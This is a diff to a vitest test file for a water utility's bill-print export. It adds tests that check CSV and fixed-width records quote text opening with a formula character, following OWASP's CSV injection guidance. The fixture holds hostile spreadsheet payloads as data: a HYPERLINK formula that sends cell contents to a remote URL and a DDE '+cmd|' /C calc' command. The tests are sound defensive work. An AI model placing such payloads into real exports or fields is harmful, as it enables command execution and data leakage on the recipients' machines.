@@ -2,13 +2,15 @@
  * The print vendor's field rules (core/billing/print/fields.ts), the charge-line slots, the scan
  * line, and docs/formats/bill-print.md checked against the layouts it documents.
  */
+import { parse } from 'csv-parse/sync';
 import { readFileSync } from 'node:fs';
 import { resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { luhnDigit, scanLine } from '../../src-main/core/billing/print/bill-pdf';
-import { CSV_COLUMNS } from '../../src-main/core/billing/print/csv';
-import { centsField, csvCell, csvRow, foldToAscii, numberField, textField, usageParts, wholeReading, yymmdd, zipDigits } from '../../src-main/core/billing/print/fields';
-import { DETAIL_FIELDS, HEADER_FIELDS, RECORD_LENGTH, TRAILER_FIELDS, detailField, lineSlots, totalsOfDetails, type FieldSpec } from '../../src-main/core/billing/print/fixed-width';
+import { CSV_COLUMNS, formatCsv } from '../../src-main/core/billing/print/csv';
+import { centsField, foldToAscii, numberField, textField, usageParts, wholeReading, yymmdd, zipDigits } from '../../src-main/core/billing/print/fields';
+import { DETAIL_FIELDS, HEADER_FIELDS, RECORD_LENGTH, TRAILER_FIELDS, detailField, formatRecord, lineSlots, totalsOfDetails, type FieldSpec } from '../../src-main/core/billing/print/fixed-width';
+import type { PrintRecord } from '../../src-main/core/billing/print/records';
 
 const place = { field: 'currentReading', record: 'account 000001-01 (bill 7)' };
 
@@ -56,14 +58,43 @@ describe('numbers, amounts and dates', () => {
   });
 });
 
-describe('CSV cells', () => {
-  it('quotes a cell with a comma, quote, line break or edge space, doubling quotes; leaves others bare', () => {
-    expect(csvCell('Water service charge, 5/8" meter')).toBe('"Water service charge, 5/8"" meter"');
-    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
-    expect(csvCell(' padded')).toBe('" padded"');
-    expect(csvCell('-12.40')).toBe('-12.40');
-    expect(csvCell(null)).toBe('');
-    expect(csvRow(['D', 4, null, 'a,b'])).toBe('D,4,,"a,b"');
+describe('formula-leading text (OWASP CSV injection)', () => {
+  it('quotes a text field that would start a formula, after folding and before the cut', () => {
+    expect(textField('=1+1', 8)).toBe("'=1+1   ");
+    expect(textField('@SUM(1+1)', 5)).toBe("'@SUM");
+    // A tab or leading spaces fold away: the first character the vendor sees is the one judged.
+    expect(textField('\t  +cmd', 6)).toBe("'+cmd ");
+    // The Unicode minus folds to "-", so it is quoted too.
+    expect(textField('\u22125 credit', 10)).toBe("'-5 credit");
+    expect(textField("O'Brien", 8)).toBe("O'Brien ");
+  });
+
+  const hostile: PrintRecord = {
+    billId: 12, replacesBillId: null, accountNumber: '000004-01', mailingName: '@SUM(1+1) =HYPERLINK("http://x/?"&A1,"Pay here")',
+    mailingStreet: "+cmd|' /C calc'!A0", mailingCity: '-1+1', mailingState: 'CA', mailingZip: '95350', serviceStreet: '4 Elm St', serviceCity: 'Valle Verde',
+    route: 'R2', sequence: 4, meterSerial: 'M-4', priorReadDate: '2026-10-09', priorReading: '130', readDate: '2026-11-09', reading: '139', usageHcf: '9',
+    fromDate: '2026-10-09', toDate: '2026-11-09', billDate: '2026-11-12', dueDate: '2026-12-02',
+    previousBalanceCents: -1_240, currentChargesCents: 8_486, amountDueCents: 7_246, messageCodes: [], suppressReturnEnvelope: false,
+    lines: [{ description: '=Water use', amountCents: 8_486 }],
+  };
+
+  it('in the CSV, quotes hostile text but keeps a credit of -12.40 a number the vendor parses', () => {
+    const csv = formatCsv([hostile], { recordCount: 1, currentChargesCents: 8_486, amountDueCents: 7_246 }, { runId: 3, cycle: 1, period: '2026-11', billDate: '2026-11-12', dueDate: '2026-12-02' });
+    const detail = csv.split('\r\n')[1]!;
+    expect(detail).toContain(`,"'@SUM(1+1) =HYPERLINK(""http://x/?""&A1,""Pay here"")",'+cmd|' /C calc'!A0,'-1+1,CA,`);
+    const [, row] = parse(csv) as string[][];
+    const cell = (name: string) => row![CSV_COLUMNS.findIndex((column) => column.name === name)];
+    expect(['previous_balance', 'current_charges', 'amount_due', 'usage_hcf', 'line_1_amount'].map(cell)).toEqual(['-12.40', '84.86', '72.46', '9', '84.86']);
+    expect(cell('line_1_description')).toBe("'=Water use");
+  });
+
+  it('in the fixed-width record, quotes hostile text and keeps the credit\'s sign', () => {
+    const line = formatRecord(DETAIL_FIELDS, hostile, 'account 000004-01 (bill 12)');
+    expect(detailField(line, 'name')).toBe('\'@SUM(1+1) =HYPERLINK("http://');
+    expect(detailField(line, 'mailingStreet')).toBe("'+cmd|' /C calc'!A0".padEnd(30));
+    expect(detailField(line, 'mailingCity')).toBe("'-1+1".padEnd(20));
+    expect(detailField(line, 'line1Description')).toBe("'=Water use".padEnd(30));
+    expect(detailField(line, 'previousBalance')).toBe('-0000001240');
   });
 });
 
